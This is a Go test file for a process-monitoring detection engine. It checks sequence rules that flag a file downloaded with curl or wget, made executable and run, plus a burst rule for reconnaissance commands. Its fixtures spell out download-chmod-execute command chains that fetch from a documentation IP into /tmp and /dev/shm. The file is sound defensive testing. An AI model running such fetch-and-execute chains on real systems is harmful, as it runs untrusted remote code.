package recipe

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vigil-otel/vigil/event"
	"github.com/vigil-otel/vigil/proctable"
)

// downloadRun is a sequence recipe of three steps: a download to a file,
// that file made executable, that file run.
const downloadRun = `recipes:
  - name: download_run` + header + `    sequence:
      within: 5m
      steps:
        - match: {executable: {name: [curl, wget]}}
          capture: {file: {after: [-o, -O, --output], path: true}}
        - match: {executable: {name: chmod}}
          require: {file: argument}
        - require: {file: executable}
`

// TestSequenceFixtures runs a sequence recipe's own tests: the steps in
// one tree, in order, on the same file, within the window fire; the same
// execs with one of those broken do not.
func TestSequenceFixtures(t *testing.T) {
	src := downloadRun + `    tests:
      - name: a script downloads, chmods and runs
        match: true
        parent: {exe: /usr/bin/bash, args: [bash, install.sh]}
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, -sSo, x, https://203.0.113.7/x], cwd: /tmp}
          - exec: {exe: /usr/bin/curl, args: [curl, -so, /tmp/y, https://203.0.113.7/y]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, ./x], cwd: /tmp}
          - exec: {exe: /tmp/x, args: [./x]}
      - name: the output option glued to its value
        match: true
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, --output=/dev/shm/k, https://203.0.113.7/k]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, "755", /dev/shm/k]}
          - exec: {exe: /usr/bin/dash, args: [sh, /dev/shm/k], script: /dev/shm/k}
      - name: another file is run
        match: false
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, -o, /tmp/x, https://203.0.113.7/x]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, /tmp/x]}
          - exec: {exe: /tmp/other}
      - name: out of order
        match: false
        execs:
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, /tmp/x]}
          - exec: {exe: /usr/bin/curl, args: [curl, -o, /tmp/x, https://203.0.113.7/x]}
          - exec: {exe: /tmp/x}
      - name: the steps in unrelated trees
        match: false
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, -o, /tmp/x, https://203.0.113.7/x]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, /tmp/x]}
            tree: 2
          - exec: {exe: /tmp/x}
            tree: 3
      - name: the last step after the window
        match: false
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, -o, /tmp/x, https://203.0.113.7/x]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, /tmp/x]}
          - exec: {exe: /tmp/x}
            after: 6m
      - name: a download to standard output leaves no file
        match: false
        execs:
          - exec: {exe: /usr/bin/curl, args: [curl, -s, https://203.0.113.7/x]}
          - exec: {exe: /usr/bin/chmod, args: [chmod, +x, /tmp/x]}
          - exec: {exe: /tmp/x}
`
	recipes := parse(t, src)
	for _, res := range fixtures(t, recipes) {
		require.True(t, res.Passed(), "%s: fired=%v", res.Fixture.Name, res.Fired)
	}
}

// TestSequenceHitNamesTheSteps checks what a finished sequence reports:
// the earlier steps, oldest first, beside the exec that finished it.
func TestSequenceHitNamesTheSteps(t *testing.T) {
	e := engineOf(t, parse(t, downloadRun))
	tree := fixtureTree{10: {PID: 10, PPID: 1, Exe: "/usr/bin/bash"}}
	at := func(pid uint32, sec int, exe string, args ...string) *Input {
		ev := &event.Event{Kind: event.KindExec, Time: time.Unix(int64(1000+sec), 0), PID: pid, PPID: 10, ExePath: exe, Args: append([]string{exe}, args...)}
		p := &proctable.Process{PID: pid, PPID: 10, Exe: exe, Args: ev.Args, Exec: ev}
		tree[pid] = p
		return &Input{Event: ev, Process: p, Processes: tree}
	}
	require.Empty(t, e.Match(at(11, 0, "/usr/bin/curl", "-o", "/tmp/x", "https://203.0.113.7/x"), nil))
	require.Empty(t, e.Match(at(12, 1, "/usr/bin/chmod", "+x", "/tmp/x"), nil))
	hits := e.Match(at(13, 2, "/tmp/x"), nil)
	require.Len(t, hits, 1)
	require.Equal(t, "download_run", hits[0].Recipe.Name)
	require.Equal(t, []Step{
		{PID: 11, Time: time.Unix(1000, 0), Exe: "/usr/bin/curl", Args: []string{"/usr/bin/curl", "-o", "/tmp/x", "https://203.0.113.7/x"}},
		{PID: 12, Time: time.Unix(1001, 0), Exe: "/usr/bin/chmod", Args: []string{"/usr/bin/chmod", "+x", "/tmp/x"}},
	}, hits[0].Steps)
	// Finished, the sequence is gone: running the file again fires
	// nothing.
	require.Empty(t, e.Match(at(14, 3, "/tmp/x"), nil))
}

// TestBurstCountsDistinctPrograms fires a burst recipe when its step is
// matched by enough different programs of one tree within the window:
// the same program again does not count, another tree is apart.
func TestBurstCountsDistinctPrograms(t *testing.T) {
	recipes := parse(t, `recipes:
  - name: recon`+header+`    sequence:
      within: 1m
      depth: 1
      distinct: 3
      steps:
        - match: {executable: {name: [id, whoami, uname, hostname, ps]}}
    tests:
      - name: three kinds in one script
        match: true
        execs:
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/whoami}
          - exec: {exe: /usr/bin/uname, args: [uname, -a]}
      - name: the same one three times
        match: false
        execs:
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/id}
      - name: three kinds in three trees
        match: false
        execs:
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/whoami}
            tree: 2
          - exec: {exe: /usr/bin/uname}
            tree: 3
      - name: three kinds over too long
        match: false
        execs:
          - exec: {exe: /usr/bin/id}
          - exec: {exe: /usr/bin/whoami}
            after: 40s
          - exec: {exe: /usr/bin/uname}
            after: 40s
`)
	for _, res := range fixtures(t, recipes) {
		require.True(t, res.Passed(), "%s: fired=%v", res.Fixture.Name, res.Fired)
	}
}

// TestSequenceStateIsBounded begins more sequences than a recipe keeps,
// in one tree and in many: the state stays within its bounds and every
// sequence forgotten is counted.
func TestSequenceStateIsBounded(t *testing.T) {
	e := engineOf(t, parse(t, downloadRun))
	tree := fixtureTree{}
	start := func(pid, parent uint32, n int) {
		tree[parent] = &proctable.Process{PID: parent, PPID: 1, Exe: "/usr/bin/bash"}
		ev := &event.Event{Kind: event.KindExec, Time: time.Unix(1000, int64(n)), PID: pid, PPID: parent, ExePath: "/usr/bin/curl",
			Args: []string{"curl", "-o", fmt.Sprintf("/tmp/f%d", n), "https://203.0.113.7/"}}
		p := &proctable.Process{PID: pid, PPID: parent, Exe: ev.ExePath, Args: ev.Args, Exec: ev}
		tree[pid] = p
		require.Empty(t, e.Match(&Input{Event: ev, Process: p, Processes: tree}, nil))
	}
	// One tree: the eight newest stay under its shell.
	for i := range 20 {
		start(uint32(100+i), 50, i)
	}
	st := e.sequences[0].seq
	require.Len(t, st.byKey[treeKey{pid: 50, start: time.Time{}.UnixNano()}], maxPartialsPerTree)
	require.Equal(t, uint64(20-maxPartialsPerTree), e.Evicted())

	// Many trees: at most maxPartialsPerRecipe in all.
	for i := range 3000 {
		start(uint32(10000+2*i), uint32(10001+2*i), 100+i)
	}
	require.LessOrEqual(t, st.live, maxPartialsPerRecipe)
	require.Equal(t, uint64(20-maxPartialsPerTree+3000+maxPartialsPerTree-maxPartialsPerRecipe), e.Evicted())
	require.LessOrEqual(t, len(st.order), 2*maxPartialsPerRecipe+1)
}

// TestSequenceSparesOtherExecs checks that an exec matching no step costs
// a sequence recipe nothing: no allocation.
func TestSequenceSparesOtherExecs(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector makes allocations")
	}
	e := engineOf(t, parse(t, downloadRun))
	in := execOf("/usr/bin/make", []string{"make", "test"}, &proctable.Process{Exe: "/usr/bin/bash"})
	// The last step matches any exec: make is checked against a sequence
	// begun, and does not hold its file.
	require.Empty(t, e.Match(execOf("/usr/bin/curl", []string{"curl", "-o", "/tmp/x", "u"}, &proctable.Process{Exe: "/usr/bin/bash"}), nil))
	require.Zero(t, testing.AllocsPerRun(100, func() { e.Match(in, nil) }))
}

// TestSequenceErrors checks what the loader says of malformed sequences,
// each located at its field.
func TestSequenceErrors(t *testing.T) {
	for _, c := range []struct{ body, err string }{
		{"    sequence: {steps: [{match: {executable: {name: curl}}}]}\n",
			`field sequence.steps: a sequence has 2 to 8 steps; this has 1`},
		{"    sequence:\n      steps:\n        - match: {executable: {name: curl}}\n        - require: {file: argument}\n",
			`field sequence.steps[1].require.file: no earlier step captures "file"`},
		{"    sequence:\n      distinct: 3\n      steps: [{match: {executable: {name: id}}}, {match: {executable: {name: ps}}}]\n",
			`field sequence.steps: a burst (distinct) has one step, the execs it counts; this has 2`},
		{"    match: {executable: {name: curl}}\n    sequence: {steps: [{}, {}]}\n",
			`field match: a sequence recipe matches in its steps: move this match into them`},
		{"    sequence:\n      steps:\n        - capture: {file: {path: true}}\n        - {}\n",
			`field sequence.steps[0].capture.file: give after (options) or arg (a regular expression), one of them`},
		{"    sequence:\n      steps:\n        - capture: {file: {after: o}}\n        - {}\n",
			`field sequence.steps[0].capture.file.after: "o" is not an option (it starts with -)`},
		{"    sequence:\n      within: soon\n      steps: [{}, {}]\n",
			`field sequence.within: "soon" is not a positive duration such as 1m or 30s`},
		{"    sequence: {steps: [{}, {}]}\n    tests:\n      - {name: one exec, match: true, exec: {exe: /usr/bin/id}}\n",
			`field tests[0].execs: missing: a sequence recipe's test lists its execs, in order`},
		{"    match: {executable: {name: id}}\n    tests:\n      - {name: several, match: true, execs: [{exec: {exe: /usr/bin/id}}]}\n",
			`field tests[0].execs: only a sequence recipe's test lists execs; give this one an exec`},
	} {
		_, errs := Parse("s.yaml", []byte("recipes:\n  - name: s"+header+c.body), "test")
		var msgs []string
		for _, err := range errs {
			msgs = append(msgs, err.Error())
		}
		require.Len(t, errs, 1, "%s\n%s", c.body, strings.Join(msgs, "\n"))
		require.Contains(t, errs[0].Error(), c.err)
	}
}

func TestOptionValue(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
		ok   bool
	}{
		{[]string{"-o", "x"}, "x", true},
		{[]string{"-sSo", "x"}, "x", true}, // flags bundled before it
		{[]string{"-sSox"}, "", false},     // bundled, and a value glued: too ambiguous
		{[]string{"-ox"}, "x", true},
		{[]string{"--output=x"}, "x", true},
		{[]string{"--output", "x"}, "x", true},
		{[]string{"--outputs", "x"}, "", false},
		{[]string{"-o"}, "", false},
		{[]string{"-flto", "x.c", "-o", "/tmp/x"}, "/tmp/x", true}, // an option, not a bundle, wins
	} {
		v, ok := optionValue(c.args, []string{"-o", "--output"})
		require.Equal(t, c.ok, ok, c.args)
		require.Equal(t, c.want, v, c.args)
	}
}

// TestScriptOperand: the file a shell or an interpreter runs, which a
// sequence's `require: {X: executable}` takes as the exec running it.
func TestScriptOperand(t *testing.T) {
	for _, c := range []struct {
		exe  string
		args []string
		want string
	}{
		{"/usr/bin/dash", []string{"/bin/sh", "/tmp/art.sh"}, "/tmp/art.sh"}, // dash's fallback for a script with no #!
		{"/usr/bin/bash", []string{"bash", "-x", "-o", "pipefail", "./run"}, "/work/run"},
		{"/usr/bin/bash", []string{"bash", "+o", "history", "--", "x"}, "/work/x"},
		{"/usr/bin/bash", []string{"bash", "-c", "/tmp/x", "/tmp/x"}, ""},
		{"/usr/bin/bash", []string{"bash", "-ec", "id"}, ""},
		{"/usr/bin/bash", []string{"bash", "-s", "/tmp/x"}, ""}, // the program comes from standard input
		{"/usr/bin/python3.12", []string{"python3", "-W", "ignore", "/tmp/p.py"}, "/tmp/p.py"},
		{"/usr/bin/python3.12", []string{"python3", "-m", "http.server"}, ""},
		{"/usr/bin/perl", []string{"perl", "-I/home/me/lib", "/tmp/p.pl"}, "/tmp/p.pl"},
		{"/usr/bin/perl", []string{"perl", "-we", "print 1", "/tmp/p.pl"}, ""},
		{"/usr/bin/node", []string{"node", "--eval", "1", "/tmp/x.js"}, ""},
		{"/bin/busybox", []string{"sh", "/tmp/x"}, "/tmp/x"},
		{"/bin/busybox", []string{"busybox", "sh", "/tmp/x"}, "/tmp/x"},
		{"/bin/busybox", []string{"busybox", "cat", "/tmp/x"}, ""},
		{"/usr/bin/cat", []string{"cat", "/tmp/x"}, ""},
		{"/usr/bin/bash", []string{"bash"}, ""},
	} {
		require.Equal(t, c.want, scriptOperand(c.exe, c.args, "/work"), c.args)
	}
}
